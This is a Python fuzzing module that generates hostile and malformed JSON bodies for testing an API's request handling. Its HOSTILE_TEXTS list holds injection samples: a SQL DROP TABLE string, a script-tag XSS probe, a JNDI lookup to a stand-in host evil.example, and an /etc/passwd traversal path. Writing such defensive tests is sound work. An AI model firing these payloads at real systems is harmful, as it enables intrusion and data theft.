"""Hostile JSON for the fuzzing scenario: hypothesis strategies of what an outsider may send.

A step's body starts plausible, drawn from the field types of its payload model
(domain.requests.REQUEST_FOR, the contract's own models, so a new field is fuzzed without a
change here), and is then spoiled: fields replaced by wrong types, huge strings, dates out of
the calendar's range, names no enumeration holds, nulls and deep nesting; unknown fields added,
required ones dropped. Its text may be spoiled as well (truncated, NaN, not an object at all).
Some bodies stay plausible, so a few steps reach the domain's rules and are recorded.
"""

from __future__ import annotations

import json
from collections.abc import Callable
from datetime import UTC, date, datetime, timedelta
from typing import Any, Final

from hypothesis import strategies as st

from domain.countries import EVER_MEMBER_STATES
from domain.requests import REQUEST_FOR
from domain.text import TEXT_MAX_BYTES

JsonSchema = dict[str, Any]

UPDATE_NAMES: Final[tuple[str, ...]] = tuple(REQUEST_FOR)
"""Every update of the contract (DESIGN.md §3), in lifecycle order."""

UNKNOWN_NAMES: Final[tuple[str, ...]] = (
    "fly_to_the_moon",
    "RESPOND_TO_CONSULTATION",
    "respond-to-consultation",
    "status",
    "__init__",
    "../withdraw",
    "withdraw ",
    "",
)
"""Names no update, enumeration or role holds: a case, a separator or a space away from one."""

HUGE_BYTES: Final = 300 * 1024
"""Larger than anything the API or a step takes (256 KiB bodies, 8 KiB texts)."""

OUT_OF_RANGE_DATES: Final[tuple[str, ...]] = (
    "0000-01-01",
    "0001-01-01",
    "9999-12-31",
    "2008-02-30",
    "2026-13-01",
    "1957-12-31",
    "-0001-01-01",
    "+275760-09-13",
    "2026-1-1",
    "20261201",
    "2026-12-01T25:00:00",
    "2026-12-01T00:00:00+99:00",
    "today",
)
"""Dates out of the calendar, out of the range a step allows, or not dates at all."""

HOSTILE_TEXTS: Final[tuple[str, ...]] = (
    "x" * (TEXT_MAX_BYTES + 1),
    "é" * (TEXT_MAX_BYTES // 2 + 1),
    "fine\u202etxt.exe",
    "nul\x00byte",
    "bell\x07and\x1bescape",
    "\ud800 a lone surrogate",
    "'; DROP TABLE events; --",
    "<script>alert(1)</script>",
    "[click](http://evil.example)",
    "{{7*7}} ${jndi:ldap://evil.example/a}",
    "../../../../etc/passwd",
    " ",
    "\n",
    "🌍" * 2049,
)
"""Texts over the bound, with control or bidirectional characters, or meant to be executed."""


def _today() -> date:
    return datetime.now(UTC).date()


def plausible_dates() -> st.SearchStrategy[str]:
    """ISO dates around today: some a step takes, some just out of the range it allows."""
    today = _today()
    return st.one_of(
        st.just(today.isoformat()),
        st.dates(today - timedelta(days=400), today + timedelta(days=400)).map(date.isoformat),
    )


def member_state_codes() -> st.SearchStrategy[str]:
    """Codes of Member States, past and present, with a few that are no Member State."""
    return st.sampled_from(sorted(EVER_MEMBER_STATES | {"CV", "MA", "XK", "GR", "pt", "EU"}))


def _resolve(schema: JsonSchema, defs: dict[str, JsonSchema]) -> JsonSchema:
    ref = schema.get("$ref")
    if isinstance(ref, str):
        return defs[ref.rsplit("/", 1)[1]]
    return schema


def plausible(schema: JsonSchema, defs: dict[str, JsonSchema], name: str) -> st.SearchStrategy[Any]:
    """A value of the JSON Schema's type (pydantic's schema of a payload model), near valid.

    `name` is the field's name: fields naming Member States get their codes, not any text.
    """
    schema = _resolve(schema, defs)
    if "anyOf" in schema:
        return st.one_of([plausible(choice, defs, name) for choice in schema["anyOf"]])
    if "enum" in schema:
        return st.sampled_from(schema["enum"])
    kind = schema.get("type")
    if kind == "string" and schema.get("format") == "date":
        return plausible_dates()
    if kind == "string":
        if "member_state" in name:
            return member_state_codes()
        return st.text(
            st.characters(codec="utf-8", exclude_categories=["Cs", "Cc"]), min_size=1, max_size=40
        )
    if kind == "array":
        items = plausible(schema.get("items", {}), defs, name)
        return st.lists(items, min_size=schema.get("minItems", 0), max_size=4)
    if kind == "boolean":
        return st.booleans()
    if kind == "integer":
        return st.integers(min_value=0, max_value=20)
    if kind == "null":
        return st.none()
    if kind == "object":
        return plausible_object(schema, defs)
    return hostile_value()


def plausible_object(
    schema: JsonSchema, defs: dict[str, JsonSchema]
) -> st.SearchStrategy[dict[str, Any]]:
    """An object of the schema's properties: every required one, each optional one or not."""
    properties: dict[str, JsonSchema] = schema.get("properties", {})
    required = set(schema.get("required", ()))
    return st.fixed_dictionaries(
        {name: plausible(sub, defs, name) for name, sub in properties.items() if name in required},
        optional={
            name: plausible(sub, defs, name)
            for name, sub in properties.items()
            if name not in required
        },
    )


def hostile_value() -> st.SearchStrategy[Any]:
    """A value no field takes, or one at the edge of what it takes."""
    scalars = st.one_of(
        st.none(),
        st.booleans(),
        st.integers(min_value=-(2**70), max_value=2**70),
        st.floats(allow_nan=True, allow_infinity=True),
        st.sampled_from(OUT_OF_RANGE_DATES),
        st.sampled_from(HOSTILE_TEXTS),
        st.sampled_from(UNKNOWN_NAMES),
        st.text(max_size=30),
        st.just("x" * HUGE_BYTES),
    )
    # Deep, but within what `json.dumps` itself can write (its recursion bound).
    nested = st.integers(min_value=50, max_value=800).map(_nested)
    return st.one_of(
        scalars,
        nested,
        st.recursive(
            scalars,
            lambda inner: (
                st.lists(inner, max_size=5)
                | st.dictionaries(st.text(max_size=10), inner, max_size=5)
            ),
            max_leaves=10,
        ),
    )


def _nested(depth: int) -> Any:
    value: Any = []
    for _ in range(depth):
        value = [value]
    return value


def step_body(update: str, *, with_actor: bool) -> st.SearchStrategy[dict[str, Any]]:
    """The body of update `update`, plausible then spoiled in up to three places.

    `with_actor`: whether the body carries `actor`, as the Temporal payload does; the API's
    body does not (it refuses one, so a body with it is one more hostile case there).
    """
    model = REQUEST_FOR[update]
    schema = model.model_json_schema()
    defs: dict[str, JsonSchema] = schema.get("$defs", {})
    if not with_actor:
        schema = {
            **schema,
            "properties": {k: v for k, v in schema["properties"].items() if k != "actor"},
            "required": [k for k in schema.get("required", ()) if k != "actor"],
        }
    return plausible_object(schema, defs).flatmap(_spoiled)


def _spoiled(body: dict[str, Any]) -> st.SearchStrategy[dict[str, Any]]:
    """`body` with up to three fields replaced, removed or added."""
    fields = sorted(body) or ["actor"]
    replacement = st.tuples(st.sampled_from(fields), hostile_value())
    unknown = st.tuples(
        st.sampled_from(["admin", "role", "actor", "expected_version", "__proto__", "country"]),
        hostile_value(),
    )
    edits = st.lists(
        st.one_of(
            replacement.map(lambda kv: ("set", kv)),
            unknown.map(lambda kv: ("set", kv)),
            st.sampled_from(fields).map(lambda k: ("drop", (k, None))),
        ),
        max_size=3,
    )
    return edits.map(lambda done: _apply(body, done))


def _apply(body: dict[str, Any], edits: list[tuple[str, tuple[str, Any]]]) -> dict[str, Any]:
    spoiled = dict(body)
    for action, (key, value) in edits:
        if action == "drop":
            spoiled.pop(key, None)
        else:
            spoiled[key] = value
    return spoiled


SPOILERS: Final[tuple[Callable[[str], str], ...]] = (
    lambda text: text,
    lambda text: text[: max(1, len(text) // 2)],
    lambda text: text + text,
    lambda text: text + "}",
    lambda text: "[" + text + "]",
    json.dumps,
    lambda text: "null",
    lambda text: "",
    lambda text: "{'single': 'quotes'}",
    lambda text: '{"a": 1, "a": 2}',
    lambda text: "\ufeff" + text,
    lambda text: "[" * 10_000 + "]" * 10_000,
)
"""Ways to write a body's JSON text: as `json.dumps` writes it (the first), cut short,
doubled, wrapped, with a byte-order mark, or no JSON at all."""


SPOILER_CHOICES: Final[tuple[int, ...]] = (0,) * len(SPOILERS) + tuple(range(1, len(SPOILERS)))
"""Indexes of SPOILERS to choose from uniformly: the plain text about half the time."""


def spoiled_text(value: Any, spoiler: int) -> str:
    """`value` as JSON text (a lone surrogate as its escape: valid JSON of invalid Unicode),
    then written by SPOILERS[spoiler]."""
    return SPOILERS[spoiler](json.dumps(value, ensure_ascii=True, allow_nan=True))
